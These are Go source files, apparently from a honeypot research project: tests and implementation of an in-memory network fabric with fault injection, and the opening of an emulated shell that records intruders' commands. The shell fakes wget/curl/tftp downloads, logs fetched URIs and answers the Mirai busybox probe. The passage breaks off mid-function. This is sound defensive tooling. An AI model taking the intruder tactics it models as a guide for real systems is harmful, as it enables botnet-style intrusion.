			t.Errorf("read after close = %v, want EOF", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("reader not unblocked by close")
	}
}

func TestReadDeadline(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() { _, _ = l.Accept() }()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.SetReadDeadline(time.Now().Add(30 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	buf := make([]byte, 1)
	_, err = c.Read(buf)
	var ne net.Error
	if !errors.As(err, &ne) || !ne.Timeout() {
		t.Fatalf("err = %v, want timeout net.Error", err)
	}
	if elapsed := time.Since(start); elapsed > time.Second {
		t.Errorf("deadline took %v", elapsed)
	}
	// Clearing the deadline allows reads again.
	if err := c.SetReadDeadline(time.Time{}); err != nil {
		t.Fatal(err)
	}
}

func TestAcceptAfterListenerClose(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	go func() {
		time.Sleep(10 * time.Millisecond)
		l.Close()
	}()
	if _, err := l.Accept(); !errors.Is(err, ErrClosed) {
		t.Errorf("Accept after close = %v", err)
	}
}

func TestConcurrentConnections(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()

	const n = 50
	go func() {
		for i := 0; i < n; i++ {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func(c net.Conn) {
				defer c.Close()
				buf := make([]byte, 4)
				if _, err := io.ReadFull(c, buf); err == nil {
					_, _ = c.Write(buf)
				}
			}(c)
		}
	}()

	var wg sync.WaitGroup
	errs := make(chan error, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
			if err != nil {
				errs <- err
				return
			}
			defer c.Close()
			if _, err := c.Write([]byte("ping")); err != nil {
				errs <- err
				return
			}
			buf := make([]byte, 4)
			if _, err := io.ReadFull(c, buf); err != nil {
				errs <- err
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestDialLatency(t *testing.T) {
	f := NewFabric(20 * time.Millisecond)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() { _, _ = l.Accept() }()
	start := time.Now()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if elapsed := time.Since(start); elapsed < 20*time.Millisecond {
		t.Errorf("dial returned in %v, want ≥20ms", elapsed)
	}
}

func TestWriteAfterClose(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() { _, _ = l.Accept() }()
	c, _ := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	c.Close()
	if _, err := c.Write([]byte("x")); !errors.Is(err, ErrClosed) {
		t.Errorf("write after close = %v", err)
	}
}

func BenchmarkFabricRoundTrip(b *testing.B) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func(c net.Conn) {
				defer c.Close()
				buf := make([]byte, 64)
				for {
					n, err := c.Read(buf)
					if err != nil {
						return
					}
					if _, err := c.Write(buf[:n]); err != nil {
						return
					}
				}
			}(c)
		}
	}()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		b.Fatal(err)
	}
	defer c.Close()
	buf := make([]byte, 64)
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := c.Write(buf); err != nil {
			b.Fatal(err)
		}
		if _, err := io.ReadFull(c, buf); err != nil {
			b.Fatal(err)
		}
	}
}

// Property: arbitrary chunked writes arrive intact and in order.
func TestQuickDataIntegrity(t *testing.T) {
	f := func(chunks [][]byte) bool {
		fab := NewFabric(0)
		l, err := fab.Listen("10.0.0.1", 9)
		if err != nil {
			return false
		}
		defer l.Close()
		done := make(chan []byte, 1)
		go func() {
			c, err := l.Accept()
			if err != nil {
				done <- nil
				return
			}
			defer c.Close()
			var got []byte
			buf := make([]byte, 256)
			for {
				n, err := c.Read(buf)
				got = append(got, buf[:n]...)
				if err != nil {
					break
				}
			}
			done <- got
		}()
		c, err := fab.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 9})
		if err != nil {
			return false
		}
		var want []byte
		for _, ch := range chunks {
			want = append(want, ch...)
			if _, err := c.Write(ch); err != nil {
				return false
			}
		}
		c.Close()
		got := <-done
		if len(got) != len(want) {
			return false
		}
		for i := range got {
			if got[i] != want[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}
