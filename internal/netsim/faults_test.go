package netsim

import (
	"errors"
	"io"
	"net"
	"sync"
	"testing"
	"time"
)

// hookFabric builds a fabric with one listener and an installed hook.
func hookFabric(t *testing.T, hook FaultHook) (*Fabric, *Listener) {
	t.Helper()
	f := NewFabric(0)
	f.SetFaultHook(hook)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	return f, l
}

func TestFaultHookRefuse(t *testing.T) {
	f, _ := hookFabric(t, func(src string, dst Addr) ConnFault {
		return ConnFault{Refuse: true}
	})
	if _, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22}); !errors.Is(err, ErrConnectionRefused) {
		t.Fatalf("dial = %v, want refused", err)
	}
}

func TestFaultHookReceivesEndpoints(t *testing.T) {
	var gotSrc string
	var gotDst Addr
	f, l := hookFabric(t, func(src string, dst Addr) ConnFault {
		gotSrc, gotDst = src, dst
		return ConnFault{}
	})
	go func() { _, _ = l.Accept() }()
	c, err := f.Dial("192.0.2.7", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if gotSrc != "192.0.2.7" || gotDst.IP != "10.0.0.1" || gotDst.Port != 22 {
		t.Errorf("hook saw %s -> %s", gotSrc, gotDst)
	}
}

// TestFaultReset checks the byte-budget reset: once the budget is spent
// both sides observe ErrReset and buffered data is discarded.
func TestFaultReset(t *testing.T) {
	f, l := hookFabric(t, func(src string, dst Addr) ConnFault {
		return ConnFault{ResetAfter: 10}
	})
	srvCh := make(chan net.Conn, 1)
	go func() {
		c, err := l.Accept()
		if err == nil {
			srvCh <- c
		} else {
			close(srvCh)
		}
	}()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	srv := <-srvCh
	if srv == nil {
		t.Fatal("accept failed")
	}
	defer srv.Close()

	if _, err := c.Write(make([]byte, 6)); err != nil {
		t.Fatalf("write within budget: %v", err)
	}
	if _, err := c.Write(make([]byte, 6)); !errors.Is(err, ErrReset) {
		t.Fatalf("budget-exhausting write = %v, want ErrReset", err)
	}
	// Both sides are dead now.
	if _, err := srv.Read(make([]byte, 16)); !errors.Is(err, ErrReset) {
		t.Errorf("peer read after reset = %v, want ErrReset", err)
	}
	if _, err := srv.Write([]byte("x")); !errors.Is(err, ErrReset) {
		t.Errorf("peer write after reset = %v, want ErrReset", err)
	}
	if _, err := c.Read(make([]byte, 1)); !errors.Is(err, ErrReset) {
		t.Errorf("read after reset = %v, want ErrReset", err)
	}
}

// TestFaultResetUnblocksReader: a reader blocked on an empty buffer must
// wake with ErrReset when the peer trips the budget.
func TestFaultResetUnblocksReader(t *testing.T) {
	f, l := hookFabric(t, func(src string, dst Addr) ConnFault {
		return ConnFault{ResetAfter: 4}
	})
	srvCh := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		srvCh <- c
	}()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	srv := <-srvCh
	defer srv.Close()

	readErr := make(chan error, 1)
	go func() {
		_, err := srv.Read(make([]byte, 1))
		readErr <- err
	}()
	time.Sleep(10 * time.Millisecond)
	_, _ = c.Write(make([]byte, 8)) // trips the 4-byte budget
	select {
	case err := <-readErr:
		if !errors.Is(err, ErrReset) {
			t.Errorf("blocked read woke with %v, want ErrReset", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("reader not unblocked by reset")
	}
}

// TestFaultStall: writes succeed but nothing is delivered; the reader
// runs into its deadline exactly as with a real dead-air connection.
func TestFaultStall(t *testing.T) {
	f, l := hookFabric(t, func(src string, dst Addr) ConnFault {
		return ConnFault{Stall: true}
	})
	srvCh := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		srvCh <- c
	}()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	srv := <-srvCh
	defer srv.Close()

	if _, err := c.Write([]byte("hello")); err != nil {
		t.Fatalf("stalled write = %v, want success", err)
	}
	if _, err := srv.Write([]byte("banner")); err != nil {
		t.Fatalf("stalled server write = %v, want success", err)
	}
	if err := srv.SetReadDeadline(time.Now().Add(20 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	_, err = srv.Read(make([]byte, 8))
	var ne net.Error
	if !errors.As(err, &ne) || !ne.Timeout() {
		t.Fatalf("stalled read = %v, want timeout", err)
	}
}

func TestFaultJitterDelaysDial(t *testing.T) {
	f, l := hookFabric(t, func(src string, dst Addr) ConnFault {
		return ConnFault{Jitter: 30 * time.Millisecond}
	})
	go func() { _, _ = l.Accept() }()
	start := time.Now()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if elapsed := time.Since(start); elapsed < 30*time.Millisecond {
		t.Errorf("jittered dial returned in %v, want ≥30ms", elapsed)
	}
}

// TestListenerCloseDrainsQueue: connections never Accepted must be
// closed when the listener goes away, so clients get EOF, not dead air.
func TestListenerCloseDrainsQueue(t *testing.T) {
	f := NewFabric(0)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		t.Fatal(err)
	}
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	// The conn sits in the accept queue; nobody ever Accepts it.
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	readErr := make(chan error, 1)
	go func() {
		_, err := c.Read(make([]byte, 1))
		readErr <- err
	}()
	select {
	case err := <-readErr:
		if err != io.EOF {
			t.Errorf("read on drained conn = %v, want EOF", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("queued conn not closed by listener drain")
	}
}

func TestDialAfterListenerCloseRefused(t *testing.T) {
	f := NewFabric(0)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		t.Fatal(err)
	}
	_ = l.Close()
	if _, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22}); !errors.Is(err, ErrConnectionRefused) {
		t.Errorf("dial after close = %v, want refused", err)
	}
}

// --- deadline edge cases ---

// TestDeadlineAlreadyPast: a deadline in the past fails the read
// immediately instead of blocking.
func TestDeadlineAlreadyPast(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() { _, _ = l.Accept() }()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.SetReadDeadline(time.Now().Add(-time.Second)); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	_, err = c.Read(make([]byte, 1))
	var ne net.Error
	if !errors.As(err, &ne) || !ne.Timeout() {
		t.Fatalf("read with past deadline = %v, want timeout", err)
	}
	if elapsed := time.Since(start); elapsed > 500*time.Millisecond {
		t.Errorf("past deadline blocked for %v", elapsed)
	}
}

// TestClearDeadlineMidBlock: clearing the deadline while a read is
// blocked must not fire a spurious timeout; the read completes when
// data finally arrives.
func TestClearDeadlineMidBlock(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	srvCh := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		srvCh <- c
	}()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	srv := <-srvCh
	defer srv.Close()

	if err := c.SetReadDeadline(time.Now().Add(40 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	type result struct {
		n   int
		err error
	}
	got := make(chan result, 1)
	go func() {
		buf := make([]byte, 4)
		n, err := c.Read(buf)
		got <- result{n, err}
	}()
	time.Sleep(10 * time.Millisecond)
	if err := c.SetReadDeadline(time.Time{}); err != nil {
		t.Fatal(err)
	}
	// Write well after the original deadline would have fired.
	time.Sleep(60 * time.Millisecond)
	if _, err := srv.Write([]byte("ok")); err != nil {
		t.Fatal(err)
	}
	select {
	case r := <-got:
		if r.err != nil || r.n != 2 {
			t.Errorf("read after clearing deadline = (%d, %v), want (2, nil)", r.n, r.err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("read never completed after deadline cleared")
	}
}

// TestCloseRacesBlockedRead: hammer Close against a blocked Read; under
// -race this doubles as a data-race probe on the pipe internals.
func TestCloseRacesBlockedRead(t *testing.T) {
	for i := 0; i < 50; i++ {
		f := NewFabric(0)
		l, _ := f.Listen("10.0.0.1", 22)
		srvCh := make(chan net.Conn, 1)
		go func() {
			c, _ := l.Accept()
			srvCh <- c
		}()
		c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
		if err != nil {
			t.Fatal(err)
		}
		srv := <-srvCh

		var wg sync.WaitGroup
		wg.Add(2)
		go func() {
			defer wg.Done()
			_, err := srv.Read(make([]byte, 1))
			if err != io.EOF && !errors.Is(err, ErrClosed) {
				t.Errorf("iter %d: racing read = %v, want EOF/closed", i, err)
			}
		}()
		go func() {
			defer wg.Done()
			_ = c.Close()
		}()
		wg.Wait()
		_ = srv.Close()
		_ = l.Close()
	}
}
