// Package netsim provides an in-memory network fabric with net.Conn /
// net.Listener semantics: addressable endpoints, buffered full-duplex
// pipes, optional latency, and deadline support. The honeyfarm's
// simulated attackers dial in-process honeypots through this fabric using
// the exact same SSH/Telnet protocol code that runs over real TCP, so
// wire-level experiments need no sockets and scale to thousands of
// concurrent sessions.
package netsim

import (
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// Errors returned by the fabric.
var (
	ErrAddressInUse      = errors.New("netsim: address already in use")
	ErrConnectionRefused = errors.New("netsim: connection refused")
	ErrClosed            = errors.New("netsim: use of closed connection")
	ErrTimeout           = errors.New("netsim: i/o timeout")
	ErrReset             = errors.New("netsim: connection reset by peer")
)

// ConnFault describes the faults to inject into one dialed connection.
// The zero value is a healthy connection.
type ConnFault struct {
	// Refuse fails the dial with ErrConnectionRefused.
	Refuse bool
	// ResetAfter, when positive, tears the connection down with ErrReset
	// on both sides once that many payload bytes have been written.
	ResetAfter int
	// Stall blackholes the connection: writes succeed but no data is
	// ever delivered, so readers block until their deadline or Close.
	Stall bool
	// Jitter adds to the fabric's base connection-establishment latency.
	Jitter time.Duration
}

// FaultHook decides the fault treatment for each dial. It runs on the
// dialing goroutine before the connection is created and must be safe
// for concurrent use.
type FaultHook func(src string, dst Addr) ConnFault

// Addr is a network address inside the fabric.
type Addr struct {
	IP   string
	Port int
}

// Network implements net.Addr.
func (a Addr) Network() string { return "netsim" }

// String implements net.Addr.
func (a Addr) String() string { return fmt.Sprintf("%s:%d", a.IP, a.Port) }

// Fabric is an in-memory Internet. The zero value is not usable; create
// one with NewFabric. All methods are safe for concurrent use.
type Fabric struct {
	mu        sync.Mutex
	listeners map[Addr]*Listener
	latency   time.Duration
	nextPort  int
	faultHook FaultHook
}

// NewFabric creates an empty fabric. latency, when positive, delays
// connection establishment (data transfer stays immediate; honeypot
// session durations are dominated by protocol round trips and timeouts,
// which the callers inject).
func NewFabric(latency time.Duration) *Fabric {
	return &Fabric{
		listeners: make(map[Addr]*Listener),
		latency:   latency,
		nextPort:  40000,
	}
}

// SetFaultHook installs (or, with nil, removes) the fault hook applied
// to subsequent dials.
func (f *Fabric) SetFaultHook(h FaultHook) {
	f.mu.Lock()
	f.faultHook = h
	f.mu.Unlock()
}

// Listener accepts fabric connections on one address.
type Listener struct {
	fabric *Fabric
	addr   Addr
	queue  chan *Conn
	done   chan struct{}
	once   sync.Once
	qmu    sync.Mutex
	closed bool
}

// Listen binds an address. Port 0 is not supported; honeypots bind 22/23.
func (f *Fabric) Listen(ip string, port int) (*Listener, error) {
	addr := Addr{IP: ip, Port: port}
	f.mu.Lock()
	defer f.mu.Unlock()
	if _, ok := f.listeners[addr]; ok {
		return nil, fmt.Errorf("%w: %s", ErrAddressInUse, addr)
	}
	l := &Listener{
		fabric: f,
		addr:   addr,
		queue:  make(chan *Conn, 128),
		done:   make(chan struct{}),
	}
	f.listeners[addr] = l
	return l, nil
}

// Accept waits for the next incoming connection.
func (l *Listener) Accept() (net.Conn, error) {
	select {
	case c := <-l.queue:
		return c, nil
	case <-l.done:
		return nil, ErrClosed
	}
}

// Close unbinds the listener. Connections still sitting in the accept
// queue are closed so their clients see EOF instead of dead air.
func (l *Listener) Close() error {
	l.once.Do(func() {
		l.fabric.mu.Lock()
		delete(l.fabric.listeners, l.addr)
		l.fabric.mu.Unlock()
		l.qmu.Lock()
		l.closed = true
		l.qmu.Unlock()
		close(l.done)
		for {
			select {
			case c := <-l.queue:
				_ = c.Close()
			default:
				return
			}
		}
	})
	return nil
}

// Addr returns the bound address.
func (l *Listener) Addr() net.Addr { return l.addr }

// Dial connects from srcIP to dst. It performs the fabric's configured
// latency delay (plus any fault-hook jitter) and fails with
// ErrConnectionRefused when nothing listens on dst or the fault hook
// refuses the connection.
func (f *Fabric) Dial(srcIP string, dst Addr) (net.Conn, error) {
	f.mu.Lock()
	hook := f.faultHook
	l, ok := f.listeners[dst]
	src := Addr{IP: srcIP, Port: f.nextPort}
	f.nextPort++
	if f.nextPort > 65000 {
		f.nextPort = 40000
	}
	f.mu.Unlock()
	var fd ConnFault
	if hook != nil {
		fd = hook(srcIP, dst)
	}
	if delay := f.latency + fd.Jitter; delay > 0 {
		time.Sleep(delay)
	}
	if fd.Refuse || !ok {
		return nil, fmt.Errorf("%w: %s", ErrConnectionRefused, dst)
	}
	clientSide, serverSide := newConnPair(src, dst)
	applyFault(clientSide, serverSide, fd)
	l.qmu.Lock()
	if l.closed {
		l.qmu.Unlock()
		return nil, fmt.Errorf("%w: %s", ErrConnectionRefused, dst)
	}
	select {
	case l.queue <- serverSide:
		l.qmu.Unlock()
		return clientSide, nil
	default:
		l.qmu.Unlock()
		// Accept queue overflow models a SYN backlog drop.
		return nil, fmt.Errorf("%w: %s (backlog full)", ErrConnectionRefused, dst)
	}
}

// applyFault wires reset budgets and stall blackholes into a fresh
// connection pair, before either side is shared with another goroutine.
func applyFault(client, server *Conn, fd ConnFault) {
	if fd.Stall {
		client.readHalf.blackhole = true
		client.writeHalf.blackhole = true
	}
	if fd.ResetAfter > 0 {
		shared := &connFault{budget: fd.ResetAfter}
		client.fault = shared
		server.fault = shared
	}
}

// connFault tracks the shared reset byte budget of a connection pair.
type connFault struct {
	mu     sync.Mutex
	budget int
}

// consume debits n bytes and reports how many may still be written and
// whether the budget just tripped.
func (cf *connFault) consume(n int) (allowed int, tripped bool) {
	cf.mu.Lock()
	defer cf.mu.Unlock()
	if cf.budget <= 0 {
		return 0, true
	}
	if n >= cf.budget {
		allowed = cf.budget
		cf.budget = 0
		return allowed, true
	}
	cf.budget -= n
	return n, false
}

// pipeHalf is one direction's buffered byte stream.
type pipeHalf struct {
	mu        sync.Mutex
	cond      *sync.Cond
	buf       []byte
	closed    bool // write side closed
	reset     bool // torn down by an injected reset
	blackhole bool // stall fault: accept writes, deliver nothing
}

func newPipeHalf() *pipeHalf {
	h := &pipeHalf{}
	h.cond = sync.NewCond(&h.mu)
	return h
}

func (h *pipeHalf) write(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.reset {
		return 0, ErrReset
	}
	if h.closed {
		return 0, ErrClosed
	}
	if h.blackhole {
		return len(p), nil
	}
	h.buf = append(h.buf, p...)
	h.cond.Broadcast()
	return len(p), nil
}

func (h *pipeHalf) read(p []byte, deadline *deadline) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for len(h.buf) == 0 {
		if h.reset {
			return 0, ErrReset
		}
		if h.closed {
			return 0, errEOF
		}
		if deadline.expired() {
			return 0, ErrTimeout
		}
		waitDone := deadline.watch(h.cond)
		h.cond.Wait()
		waitDone()
	}
	n := copy(p, h.buf)
	h.buf = h.buf[n:]
	return n, nil
}

func (h *pipeHalf) close() {
	h.mu.Lock()
	h.closed = true
	h.cond.Broadcast()
	h.mu.Unlock()
}

// closeReset tears the half down like a TCP RST: buffered data is
// discarded and both readers and writers observe ErrReset.
func (h *pipeHalf) closeReset() {
	h.mu.Lock()
	h.closed = true
	h.reset = true
	h.buf = nil
	h.cond.Broadcast()
	h.mu.Unlock()
}

var errEOF = errors.New("EOF")

// deadline implements cancellable read deadlines for a cond-based buffer.
type deadline struct {
	mu   sync.Mutex
	when time.Time
}

func (d *deadline) set(t time.Time) {
	d.mu.Lock()
	d.when = t
	d.mu.Unlock()
}

func (d *deadline) expired() bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	return !d.when.IsZero() && time.Now().After(d.when)
}

// watch arranges to broadcast on cond when the deadline passes, so a
// blocked reader wakes up. It returns a cleanup func.
func (d *deadline) watch(cond *sync.Cond) func() {
	d.mu.Lock()
	when := d.when
	d.mu.Unlock()
	if when.IsZero() {
		return func() {}
	}
	timer := time.AfterFunc(time.Until(when)+time.Millisecond, cond.Broadcast)
	return func() { timer.Stop() }
}

// Conn is one side of a fabric connection. It implements net.Conn.
type Conn struct {
	readHalf  *pipeHalf // data flowing toward us
	writeHalf *pipeHalf // data flowing away from us
	local     Addr
	remote    Addr
	readDL    deadline
	closeOnce sync.Once
	fault     *connFault // shared reset budget, nil when healthy
}

func newConnPair(clientAddr, serverAddr Addr) (client, server *Conn) {
	c2s := newPipeHalf()
	s2c := newPipeHalf()
	client = &Conn{readHalf: s2c, writeHalf: c2s, local: clientAddr, remote: serverAddr}
	server = &Conn{readHalf: c2s, writeHalf: s2c, local: serverAddr, remote: clientAddr}
	return client, server
}

// Read implements net.Conn.
func (c *Conn) Read(p []byte) (int, error) {
	n, err := c.readHalf.read(p, &c.readDL)
	if err == errEOF {
		return 0, io.EOF
	}
	if err == ErrTimeout {
		return 0, timeoutError{}
	}
	return n, err
}

// Write implements net.Conn. When a reset budget is attached and this
// write exhausts it, the allowed prefix is delivered and the connection
// is torn down with ErrReset on both sides.
func (c *Conn) Write(p []byte) (int, error) {
	if c.fault != nil {
		allowed, tripped := c.fault.consume(len(p))
		if tripped {
			// Like a TCP RST, data not yet read is discarded — the
			// accepted prefix is counted but never delivered.
			c.writeHalf.closeReset()
			c.readHalf.closeReset()
			return allowed, ErrReset
		}
	}
	return c.writeHalf.write(p)
}

// Close implements net.Conn: both directions are torn down.
func (c *Conn) Close() error {
	c.closeOnce.Do(func() {
		c.writeHalf.close()
		c.readHalf.close()
	})
	return nil
}

// LocalAddr implements net.Conn.
func (c *Conn) LocalAddr() net.Addr { return c.local }

// RemoteAddr implements net.Conn.
func (c *Conn) RemoteAddr() net.Addr { return c.remote }

// SetDeadline implements net.Conn (read side only; writes never block).
func (c *Conn) SetDeadline(t time.Time) error { return c.SetReadDeadline(t) }

// SetReadDeadline implements net.Conn.
func (c *Conn) SetReadDeadline(t time.Time) error {
	c.readDL.set(t)
	c.readHalf.cond.Broadcast()
	return nil
}

// SetWriteDeadline implements net.Conn (no-op: writes are buffered).
func (c *Conn) SetWriteDeadline(time.Time) error { return nil }

// timeoutError satisfies net.Error for deadline expiry.
type timeoutError struct{}

func (timeoutError) Error() string   { return "netsim: i/o timeout" }
func (timeoutError) Timeout() bool   { return true }
func (timeoutError) Temporary() bool { return true }
