package shell

import (
	"bytes"
	"fmt"
	"io"
	"strings"

	"honeyfarm/internal/vfs"
)

// FetchFunc resolves a URI to remote content. The honeypot wires this to
// a simulated downloader so that wget/curl/tftp produce deterministic
// payloads; nil disables downloads (commands still record the URI and
// report a network error, matching a honeypot with egress blocked).
type FetchFunc func(uri string) ([]byte, error)

// Recorder receives the shell's observation stream. All methods may be
// called from the session goroutine only.
type Recorder interface {
	// Command is invoked for every simple command executed; known reports
	// whether the shell emulates it.
	Command(raw string, known bool)
	// URI is invoked when a command references an external resource.
	URI(uri string)
	// File is invoked for every file created or modified.
	File(ev vfs.FileEvent)
}

// NopRecorder discards all observations.
type NopRecorder struct{}

// Command implements Recorder.
func (NopRecorder) Command(string, bool) {}

// URI implements Recorder.
func (NopRecorder) URI(string) {}

// File implements Recorder.
func (NopRecorder) File(vfs.FileEvent) {}

// Shell interprets command lines against a fake filesystem. Create one
// per session with New.
type Shell struct {
	FS    *vfs.FS
	CWD   string
	User  string
	Host  string
	Env   map[string]string
	Out   io.Writer
	Fetch FetchFunc
	Rec   Recorder

	exited   bool
	exitCode int
	lastRC   int
	history  []string
}

// New returns a shell rooted at /root for the given session filesystem.
func New(fs *vfs.FS, out io.Writer, rec Recorder) *Shell {
	if rec == nil {
		rec = NopRecorder{}
	}
	if out == nil {
		out = io.Discard
	}
	return &Shell{
		FS:   fs,
		CWD:  "/root",
		User: "root",
		Host: "svr04",
		Env:  map[string]string{"HOME": "/root", "PATH": "/usr/bin:/bin:/usr/sbin:/sbin", "SHELL": "/bin/bash"},
		Out:  out,
		Rec:  rec,
	}
}

// Exited reports whether the intruder ran exit/logout.
func (sh *Shell) Exited() bool { return sh.exited }

// ExitCode returns the code passed to exit, defaulting to 0.
func (sh *Shell) ExitCode() int { return sh.exitCode }

// Prompt returns the PS1-style prompt string.
func (sh *Shell) Prompt() string {
	dir := sh.CWD
	if dir == sh.Env["HOME"] {
		dir = "~"
	}
	return fmt.Sprintf("%s@%s:%s# ", sh.User, sh.Host, dir)
}

// Run interprets one input line. It returns the exit status of the last
// executed command.
func (sh *Shell) Run(line string) int {
	line = strings.TrimSpace(line)
	if line == "" {
		return sh.lastRC
	}
	sh.history = append(sh.history, line)
	cmds := Parse(line)
	var pipeIn []byte
	prevOp := OpNone
	for i, cmd := range cmds {
		if sh.exited {
			break
		}
		// Short-circuit: `a && b` skips b when a failed; `a || b` skips b
		// when a succeeded. The skipped command's connector carries the
		// decision forward, matching left-associative shell evaluation.
		if (prevOp == OpAnd && sh.lastRC != 0) || (prevOp == OpOr && sh.lastRC == 0) {
			prevOp = cmd.Op
			pipeIn = nil
			continue
		}
		var out bytes.Buffer
		sh.lastRC = sh.exec(cmd, pipeIn, &out)

		// Route output: pipe to next stage, redirect to file, or emit.
		if cmd.Op == OpPipe && i+1 < len(cmds) {
			pipeIn = out.Bytes()
		} else {
			pipeIn = nil
			if cmd.Redirect != nil {
				sh.redirect(cmd.Redirect, out.Bytes())
			} else {
				//lint:ignore error-discard client teardown surfaces on the next read
				_, _ = sh.Out.Write(out.Bytes())
			}
		}
		prevOp = cmd.Op
	}
	return sh.lastRC
}

func (sh *Shell) redirect(r *Redirect, data []byte) {
	var ev vfs.FileEvent
	var err error
	if r.Append {
		ev, err = sh.FS.AppendFile(sh.CWD, r.Path, data, 0o644)
	} else {
		ev, err = sh.FS.WriteFile(sh.CWD, r.Path, data, 0o644)
	}
	if err != nil {
		fmt.Fprintf(sh.Out, "-bash: %s: %s\n", r.Path, shellErr(err))
		return
	}
	sh.Rec.File(ev)
}

// exec runs one simple command, writing its stdout to out. stdin carries
// piped input from the previous stage.
func (sh *Shell) exec(cmd Command, stdin []byte, out *bytes.Buffer) int {
	if cmd.Name == "" {
		// Bare redirection like `> file` truncates/creates the file.
		return 0
	}
	name := cmd.Name
	args := cmd.Args
	// busybox dispatch: `busybox wget ...` behaves as the applet; an
	// unknown applet falls through to bBusybox's "applet not found"
	// banner (the Mirai fingerprint probe) while still counting as a
	// known command, since busybox itself is emulated.
	if name == "busybox" && len(args) > 0 {
		if _, ok := builtins[args[0]]; ok {
			name, args = args[0], args[1:]
		}
	}
	// Strip path prefixes: /bin/ls, ./x.
	if i := strings.LastIndexByte(name, '/'); i >= 0 && i < len(name)-1 {
		base := name[i+1:]
		if _, ok := builtins[base]; ok {
			name = base
		}
	}
	// Record URIs regardless of whether the command is known.
	for _, uri := range ExtractURIs(cmd) {
		sh.Rec.URI(uri)
	}
	fn, known := builtins[name]
	sh.Rec.Command(cmd.Raw, known)
	if !known {
		fmt.Fprintf(out, "-bash: %s: command not found\n", cmd.Name)
		return 127
	}
	return fn(sh, args, stdin, out)
}

func shellErr(err error) string {
	switch err {
	case vfs.ErrNotExist:
		return "No such file or directory"
	case vfs.ErrExist:
		return "File exists"
	case vfs.ErrIsDir:
		return "Is a directory"
	case vfs.ErrNotDir:
		return "Not a directory"
	case vfs.ErrPermission:
		return "Permission denied"
	}
	return err.Error()
}

// ExtractURIs returns external resource references in a command: URL-
// schemed arguments anywhere, plus the host[:file] argument forms of
// tftp/ftpget/scp. The honeypot logs these as the session's URIs; a
// session with at least one URI is classified CMD+URI (Section 6).
func ExtractURIs(cmd Command) []string {
	var uris []string
	for _, a := range cmd.Args {
		if hasURIScheme(a) {
			uris = append(uris, a)
